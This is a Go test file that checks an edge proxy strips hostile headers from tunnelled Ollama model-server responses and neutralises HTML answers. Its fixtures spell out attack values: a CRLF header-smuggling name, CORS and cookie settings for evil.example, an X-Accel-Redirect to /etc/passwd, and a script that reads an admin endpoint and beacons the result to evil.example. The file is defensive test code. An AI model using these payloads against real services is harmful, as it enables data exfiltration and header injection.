package ollamaapi

import (
	"bytes"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/iop-dev/iop/internal/edge/edgemetrics"
	"github.com/iop-dev/iop/internal/edge/frontend"
	ft "github.com/iop-dev/iop/internal/edge/frontend/frontendtest"
	"github.com/iop-dev/iop/quicwire/wirepb"
)

// hostileHead is a model server's answer that tries to be the Edge's
// policy: an HTML page, a cookie for the Edge's host, CORS for its own
// site with credentials, a permissive CSP, and the rest of the family.
func hostileHead(contentType ...string) *wirepb.TunnelResponseHead {
	h := &wirepb.TunnelResponseHead{Status: 200}
	add := func(name, value string) { h.Headers = append(h.Headers, &wirepb.Header{Name: name, Value: value}) }
	for _, ct := range contentType {
		add("Content-Type", ct)
	}
	for _, kv := range [][2]string{
		{"Set-Cookie", "session=stolen; Path=/; SameSite=None; Secure"},
		{"set-cookie2", "old=1"},
		{"Access-Control-Allow-Origin", "https://evil.example"},
		{"Access-Control-Allow-Credentials", "true"},
		{"Access-Control-Expose-Headers", "*"},
		{"Content-Security-Policy", "default-src * 'unsafe-inline' 'unsafe-eval'"},
		{"Content-Security-Policy-Report-Only", "default-src *"},
		{"Strict-Transport-Security", "max-age=0"},
		{"X-Frame-Options", "ALLOWALL"},
		{"X-Content-Type-Options", "sniff-please"},
		{"X-XSS-Protection", "0"},
		{"Permissions-Policy", "camera=*"},
		{"Cross-Origin-Opener-Policy", "unsafe-none"},
		{"Cross-Origin-Resource-Policy", "cross-origin"},
		{"Cross-Origin-Embedder-Policy", "unsafe-none"},
		{"Referrer-Policy", "unsafe-url"},
		{"Alt-Svc", `h3=":443"; ma=2592000`},
		{"Clear-Site-Data", `"*"`},
		{"Refresh", "0; url=https://evil.example"},
		{"Link", "<https://evil.example/x.js>; rel=preload; as=script"},
		{"Location", "https://evil.example"},
		{"Server-Timing", "db;dur=53"},
		{"WWW-Authenticate", `Basic realm="Edge login"`},
		{"Content-Disposition", "attachment; filename=update.exe"},
		{"Cache-Control", "public, max-age=31536000"},
		{"Service-Worker-Allowed", "/"},
		{"X-Accel-Redirect", "/etc/passwd"},
		{"X-IOP-Liveness", "forged"},
		{"X-Forwarded-For", "10.0.0.1"},
		{"Connection", "X-Hop-Named"},
		{"X-Hop-Named", "1"},
		{"Keep-Alive", "timeout=5"},
		{"Transfer-Encoding", "chunked"},
		{"Upgrade", "websocket"},
		{"Trailer", "X-Checksum"},
		{"Proxy-Authenticate", "Basic"},
		{"X-Bad\r\nSet-Cookie", "smuggled=1"},
		{"X-Request-Id", "req-42"},
		{"X-Ratelimit-Remaining", "7"},
		{"Retry-After", "3"},
	} {
		add(kv[0], kv[1])
	}
	return h
}

// R3, issue 24 gap 8: of a hostile head only content passes: the
// request id, the rate limit, Retry-After, and the Edge's own Content-Type
// (octet-stream for HTML), nosniff and CSP.
func TestFilterHeadPassesContentNotPolicy(t *testing.T) {
	got := filterHead(hostileHead("text/html; charset=utf-8").GetHeaders())
	var names []string
	for _, h := range got.headers {
		names = append(names, h.GetName()+": "+h.GetValue())
	}
	want := []string{
		"X-Request-Id: req-42", "X-Ratelimit-Remaining: 7", "Retry-After: 3",
		"Content-Type: application/octet-stream", "X-Content-Type-Options: nosniff",
		"Content-Security-Policy: " + tunnelCSP,
	}
	if !slices.Equal(names, want) {
		t.Errorf("passed\n  %s\nwant\n  %s", strings.Join(names, "\n  "), strings.Join(want, "\n  "))
	}
	if got.refusedType != "text/html; charset=utf-8" {
		t.Errorf("refused type %q", got.refusedType)
	}
}

// The content types the Ollama API answers with pass, normalised; any
// other, a malformed one, two, or none become octet-stream.
func TestFilterHeadKeepsOnlyOllamasContentTypes(t *testing.T) {
	for _, tt := range []struct {
		name    string
		types   []string
		want    string
		refused string
	}{
		{"json", []string{"application/json; charset=utf-8"}, "application/json; charset=utf-8", ""},
		{"json, charset spelt otherwise", []string{`Application/JSON;charset="UTF-8"`}, "application/json; charset=utf-8", ""},
		{"ndjson", []string{"application/x-ndjson"}, "application/x-ndjson", ""},
		{"the router's 404", []string{"text/plain; charset=utf-8"}, "text/plain; charset=utf-8", ""},
		{"html", []string{"text/html"}, opaqueType, "text/html"},
		{"svg", []string{"image/svg+xml"}, opaqueType, "image/svg+xml"},
		{"javascript", []string{"text/javascript"}, opaqueType, "text/javascript"},
		{"event stream (only Ollama's /v1/ routes)", []string{"text/event-stream"}, opaqueType, "text/event-stream"},
		{"a charset browsers decode as script", []string{"text/plain; charset=utf-7"}, opaqueType, "text/plain; charset=utf-7"},
		{"another parameter", []string{"application/json; profile=x"}, opaqueType, "application/json; profile=x"},
		{"malformed", []string{"application/json, text/html"}, opaqueType, "application/json, text/html"},
		{"two", []string{"application/json", "text/html"}, opaqueType, "application/json, text/html"},
		{"none", nil, opaqueType, "(none)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := filterHead(hostileHead(tt.types...).GetHeaders())
			var ct []string
			for _, h := range got.headers {
				if h.GetName() == "Content-Type" {
					ct = append(ct, h.GetValue())
				}
			}
			if len(ct) != 1 || ct[0] != tt.want || got.refusedType != tt.refused {
				t.Errorf("Content-Type %q (refused %q), want %q (refused %q)", ct, got.refusedType, tt.want, tt.refused)
			}
		})
	}
}

// issue 24 gap 8, through the front end and a real HTTP server: a hostile
// provider's HTML answer reaches the client as octet-stream with nosniff
// and the Edge's CSP, none of the provider's policy, its bytes unchanged;
// the request's log line names the refused type. Without any Content-Type
// the Edge still sets one, so that net/http does not sniff the body into
// text/html.
func TestTunnelledHostileAnswerIsNeverAPage(t *testing.T) {
	const page = "<html><script>fetch('/admin/v1/nodes').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></html>"
	for _, tt := range []struct {
		name  string
		types []string
	}{
		{"html", []string{"text/html; charset=utf-8"}},
		{"no content type", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var log bytes.Buffer
			f := &ft.Dispatcher{Head: hostileHead(tt.types...), Pieces: []ft.Step{{Data: page}}}
			h := Handler(frontend.New(f, testAuth(t), frontend.Options{Metrics: edgemetrics.New(nil, nil),
				Logger: slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))}))
			srv := httptest.NewServer(h)
			defer srv.Close()
			r, _ := http.NewRequestWithContext(t.Context(), http.MethodPost, srv.URL+"/api/show", strings.NewReader(`{"model":"m1"}`))
			r.Header.Set("Authorization", "Bearer "+testKey)
			r.Header.Set("Origin", "https://evil.example")
			res, err := http.DefaultClient.Do(r)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(res.Body)
			res.Body.Close()
			srv.Close() // waits for the handler, and so for its log line
			if res.StatusCode != 200 || string(body) != page {
				t.Errorf("status %d, body %q: the content must pass as it came", res.StatusCode, body)
			}
			if ct := res.Header.Values("Content-Type"); !slices.Equal(ct, []string{opaqueType}) {
				t.Errorf("Content-Type %q, want %s", ct, opaqueType)
			}
			if v := res.Header.Values("X-Content-Type-Options"); !slices.Equal(v, []string{"nosniff"}) {
				t.Errorf("X-Content-Type-Options %q, want nosniff", v)
			}
			if v := res.Header.Values("Content-Security-Policy"); !slices.Equal(v, []string{tunnelCSP}) {
				t.Errorf("Content-Security-Policy %q, want the Edge's own", v)
			}
			for name := range res.Header {
				switch {
				case name == "Set-Cookie", name == "Set-Cookie2", strings.HasPrefix(name, "Access-Control-"),
					name == "Content-Security-Policy-Report-Only", name == "Strict-Transport-Security", name == "X-Frame-Options",
					name == "Permissions-Policy", strings.HasPrefix(name, "Cross-Origin-"), name == "Referrer-Policy",
					name == "Alt-Svc", name == "Clear-Site-Data", name == "Refresh", name == "Link", name == "Location",
					name == "Server-Timing", name == "Www-Authenticate", name == "Content-Disposition", name == "Cache-Control",
					name == "X-Accel-Redirect", name == "X-Iop-Liveness", name == "X-Hop-Named", name == "Upgrade":
					t.Errorf("%s relayed: %q", name, res.Header.Values(name))
				}
			}
			want := "(none)"
			if len(tt.types) > 0 {
				want = tt.types[0]
			}
			if !strings.Contains(log.String(), "provider_content_type_refused="+`"`+want+`"`) &&
				!strings.Contains(log.String(), "provider_content_type_refused="+want) {
				t.Errorf("the log does not name the refused type %q:\n%s", want, log.String())
			}
		})
	}
}
